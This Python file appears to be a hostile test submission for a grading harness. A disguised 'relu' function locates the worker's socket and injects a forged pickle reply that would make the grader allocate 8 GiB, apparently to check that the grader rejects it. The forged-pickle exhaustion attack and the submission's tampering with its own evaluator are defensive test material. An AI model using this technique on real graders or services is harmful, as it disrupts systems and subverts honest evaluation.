"""Hostile (forged reply): relu writes its own 100-byte reply straight to the worker's socket, a pickle that
REDUCEs numpy.ndarray((2**30,), "f8"): 8 GiB allocated in the grader if it calls what the pickle names."""

import os
import pickle
import stat
import struct
import time

import numpy as np

ELEMENTS = 2**30
WAIT_S = 30  # the worker never answers for itself: the grader must reject the forged reply


class Forged:
    def __reduce__(self):
        return (np.ndarray, ((ELEMENTS,), "f8"))


def channel():
    """The worker's socket to the grader: the only socket among its open files (self-contained, like every
    hostile submission: it may not import a helper from beside it)."""
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    raise RuntimeError("no socket found")


def relu(z):
    payload = pickle.dumps(("result", Forged(), {}), protocol=5)
    os.write(channel(), struct.pack("!QQ", 1, len(payload)) + payload)
    time.sleep(WAIT_S)
    return np.maximum(z, 0)
